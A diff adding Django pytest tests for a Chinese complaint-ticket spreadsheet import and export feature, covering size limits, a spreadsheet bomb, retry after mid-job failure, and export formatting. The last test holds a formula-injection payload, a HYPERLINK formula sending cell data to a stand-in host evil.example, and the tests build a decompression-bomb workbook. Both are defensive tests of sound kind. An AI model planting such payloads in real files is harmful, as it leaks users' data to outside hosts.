@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import io
 
+import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
+from django.utils import timezone
 from openpyxl import Workbook, load_workbook
 
 from minqing.api.exchange import import_job
@@ -97,3 +99,99 @@ def test_only_the_district_center_uses_the_exchange(cast) -> None:
     c.force_login(cast.shequ)
     assert c.get("/exchange/").status_code == 404
     assert c.get("/exchange/replies.xlsx").status_code == 404
+
+
+def csv_file(text: str) -> SimpleUploadedFile:
+    return SimpleUploadedFile("orders.csv", text.encode("utf-8"))
+
+
+ROW = ["瓜州路社区门口路灯不亮了", "投诉", "瓜州路社区", "", ""]
+
+
+def test_a_csv_cell_over_128_kb_fails_the_job_with_a_reason_and_writes_nothing(cast) -> None:
+    c = Client()
+    c.force_login(cast.duban)
+    text = ",".join(HEADER) + "\n" + "GD-1,,王大爷,13912345678,路灯坏了,投诉,瓜州路社区,,\n" + \
+        "GD-2,,李阿姨,13912345679," + "长" * 140_000 + ",投诉,瓜州路社区,,\n"
+    job = upload(c, cast, csv_file(text))  # this used to raise out of the job and leave it at 导入中
+    assert job.status == "failed" and "第 3 行有单元格超过 32,767 个字符" in job.error
+    assert Ticket.objects.count() == 0 and job.created == 0
+    page = c.get(f"/exchange/jobs/{job.pk}/").content.decode()
+    assert "失败" in page and "没有导入任何一行" in page and "重试" in page
+
+
+@pytest.mark.parametrize(("limit", "value", "rows", "reason"), [
+    ("IMPORT_MAX_ROWS", 2, 3, "表格超过 2 行"),
+    ("IMPORT_MAX_MEMBER_BYTES", 20_000, 3, "解压后过大"),
+    ("IMPORT_MAX_BYTES", 30_000, 3, "解压后过大（"),
+    ("IMPORT_MAX_CELL_CHARS", 10, 1, "超过 10 个字符"),
+    ("IMPORT_MAX_COLUMNS", 5, 1, "超过 5 列"),
+])
+def test_a_file_over_a_limit_fails_the_job_and_writes_nothing(cast, settings, limit, value, rows, reason) -> None:
+    settings.MINQING = {**settings.MINQING, limit: value}
+    c = Client()
+    c.force_login(cast.duban)
+    # Good rows, the later ones padded to make the sheet large: the limit is checked before the first batch.
+    job = upload(c, cast, xlsx([[f"GD-{i}", "", "王大爷", "13912345678", *ROW[:1], "投诉", "瓜州路社区",
+                                 "", "x" * (60_000 if i == rows - 1 and limit.endswith("BYTES") else 0)]
+                                for i in range(rows)]))
+    assert job.status == "failed" and reason in job.error, job.error
+    assert Ticket.objects.count() == 0
+
+
+def test_a_spreadsheet_bomb_fails_the_job_at_once(cast) -> None:
+    from minqing.lib.tests.test_xlsx import sheet_xml, with_part
+
+    c = Client()
+    c.force_login(cast.duban)
+    bomb = with_part("xl/worksheets/sheet1.xml", sheet_xml('<row r="1">' + "<c/>" * 200_000 + "</row>"))
+    job = upload(c, cast, SimpleUploadedFile("orders.xlsx", bomb))
+    assert job.status == "failed" and "第 1 行的单元格过多" in job.error and Ticket.objects.count() == 0
+
+
+def test_a_job_that_breaks_midway_fails_with_a_reason_and_a_retry_imports_each_order_once(cast, monkeypatch) -> None:
+    from minqing.api import exchange
+
+    c = Client()
+    c.force_login(cast.duban)
+    monkeypatch.setattr(exchange, "BATCH", 2)
+    real = exchange.actions.ticket_create_many
+    calls = []
+
+    def second_batch_breaks(**kwargs):
+        calls.append(1)
+        if len(calls) == 2:
+            raise RuntimeError("database went away")
+        return real(**kwargs)
+
+    monkeypatch.setattr(exchange.actions, "ticket_create_many", second_batch_breaks)
+    rows = [[f"GD-{i}", "", "王大爷", "13912345678", f"瓜州路社区门口路灯不亮了（{i}）", "投诉", "瓜州路社区", "", ""]
+            for i in range(5)]
+    job = upload(c, cast, xlsx(rows))
+    assert job.status == "failed" and "导入时出错" in job.error and "重试" in job.error
+    assert (job.done, job.created) == (2, 2) and Ticket.objects.count() == 2  # the first batch was committed
+    assert [r["number"] for r in job.report] == ["GD-0", "GD-1"]
+    r = c.post(f"/exchange/jobs/{job.pk}/retry/", follow=True)
+    assert "已重新排队" in r.content.decode()
+    job.refresh_from_db()
+    assert job.status == "queued" and job.error == "" and job.done == 0
+    job = import_job(job)  # what the re-queued task runs
+    assert job.status == "done" and (job.created, job.updated) == (3, 2)
+    assert Ticket.objects.count() == 5 and Ticket.objects.filter(external_number="GD-0").count() == 1
+    again = c.post(f"/exchange/jobs/{job.pk}/retry/", follow=True).content.decode()
+    assert "不是“失败”状态" in again
+
+
+def test_the_reply_export_writes_text_as_text_and_times_as_times(cast) -> None:
+    c = Client()
+    c.force_login(cast.duban)
+    upload(c, cast, xlsx([["GD-7", "", "王大爷", "13912345678", "瓜州路社区门口路灯不亮了", "投诉", "瓜州路社区", "", ""]]))
+    t = actions.ticket_accept(ticket=Ticket.objects.get(external_number="GD-7"), actor=cast.shequ)
+    attack = '=HYPERLINK("http://evil.example/?"&A2,"查看详情")'
+    actions.ticket_resolve_on_spot(ticket=t, actor=cast.shequ, result=attack)
+    content = c.get("/exchange/replies.xlsx?days=7").content
+    sheet = load_workbook(io.BytesIO(content)).active
+    result, replied = sheet["D2"], sheet["E2"]
+    assert result.value == attack and result.data_type == "s" and result.quotePrefix  # never a formula
+    assert replied.is_date and replied.value.date() == timezone.localdate()
+    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["D"].width > len("办理结果") * 2
